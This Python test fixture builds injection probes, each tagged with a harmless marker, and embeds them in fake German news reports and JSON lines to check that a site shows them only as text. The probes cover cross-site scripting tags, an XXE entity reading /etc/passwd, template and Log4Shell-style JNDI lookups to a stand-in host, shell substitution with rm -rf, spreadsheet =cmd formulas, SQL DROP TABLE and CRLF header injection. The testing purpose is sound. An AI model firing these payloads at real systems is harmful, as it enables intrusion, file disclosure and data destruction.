"""Words that would do something where they are not taken as words: in a page, a query, a spreadsheet, a template.

`MARK` stands in all of them; a page that shows it as anything but text has let a report speak for the site.
"""

import json

MARK = "xq7"
SCRIPTS = {
    "script": f"<script>{MARK}()</script>",
    "closed element": f"</p></main></body><{MARK}>",
    "closed title": f"</title></textarea></style><{MARK}>",
    "attribute": f'" {MARK}="1" onmouseover="{MARK}()" x="',
    "attribute in one mark": f"' {MARK}='1' onfocus='{MARK}()' autofocus x='",
    "picture": f"<img src=x onerror={MARK}()>",
    "drawing": f"<svg onload={MARK}()><{MARK}/></svg>",
    "frame": f'<iframe src="https://{MARK}.example/"></iframe>',
    "address": f"javascript:{MARK}()",
    "data address": f"data:text/html,<script>{MARK}()</script>",
    "comment": f"<!-- --><{MARK}><!--[if IE]><{MARK}><![endif]-->",
    "CDATA": f"]]><{MARK}><![CDATA[",
    "end of JSON-LD": f'</script><{MARK} a="',
    "entities": f"&lt;{MARK}&gt; &#60;{MARK}&#62; &amp;lt;{MARK}&amp;gt;",
    "entity of XML": f'<!DOCTYPE a [<!ENTITY {MARK} SYSTEM "file:///etc/passwd">]>&{MARK};',
    "base": f'<base href="https://{MARK}.example/"><meta http-equiv=refresh content="0;url=https://{MARK}.example/">',
    "template of Django": f"{{{{ 7000000|add:13300337 }}}} {{% debug %}} {{# {MARK} #}}",
    "template literal": f"${{{MARK}()}} #{{{MARK}}} <%= {MARK} %>",
    "format": f"%s %(name)s {{0.__class__}} {{{MARK}}} %n",
    "split tag": f"<scr<script>ipt>{MARK}()</scr</script>ipt>",
    "NUL in a tag": f"<scr\0ipt>{MARK}()</scr\0ipt>",
    "full-width brackets": f"＜{MARK}＞ ‹{MARK}› ≮{MARK}≯",
    "mark of a mark": f"<mark data-{MARK}>„</mark>“ <{MARK}>",
    "shell": f"$(touch /tmp/{MARK}) `id` ; rm -rf {MARK} | cat",
    "lookup": f"${{jndi:ldap://{MARK}.example/a}}",
}
FORMULAS = {
    "formula": f'=HYPERLINK("https://{MARK}.example/"; "{MARK}")',
    "plus": f"+{MARK}+1",
    "minus": f"-{MARK}-1",
    "at": f"@SUM({MARK})",
    "tab": f"\t={MARK}",
    "command": f"=cmd|' /C {MARK}'!A0",
    "full-width": f"＝{MARK}",
}
QUERIES = {
    "SQL": f"'; DROP TABLE articles_article; -- {MARK}",
    "SQL comment": f"*/ OR 1=1 /* {MARK} \\'",
    "search": f'{MARK} AND (NEAR("a" NOT b*) -c:d ^e',
    "tsquery": f"{MARK} & ! | <-> :* ' \\",
    "header": f"{MARK}\r\nSet-Cookie: {MARK}=1\r\n\r\n<{MARK}>",
    "calendar": f"{MARK}\nEND:VEVENT\nBEGIN:{MARK}\n",
    "LIKE": f"%_\\%{MARK}",
}
FAMILIES = {"all scripts": SCRIPTS, "all formulas": FORMULAS, "all queries": QUERIES}


def told(family):
    """A report in which every probe of the family stands where people, places, sources and quotations stand."""
    lines = (
        f"Ministerin Anna {probe} Berg reiste nach {probe}. „Wir reden {probe} weiter“, sagte Berg. Quelle: {probe}\n"
        for probe in family.values()
    )
    return f" date 2017-05-03 {'|'.join(family.values())}\n\n{''.join(lines)}".encode()


def line(probe):
    """A JSON line with the probe in every field."""
    fields = {"title": probe, "source": probe, "url": probe, "language": "de", "date": "2017-05-03"}
    return json.dumps({"text": f"Berg sprach: „{probe}“. In Zeilen.", **fields}).encode()


TEXTS = {
    **{f"probe/{name}.txt": told(family) for name, family in FAMILIES.items()},
    **{f"probe/{name}.jsonl": line(probe) for family in FAMILIES.values() for name, probe in family.items()},
}
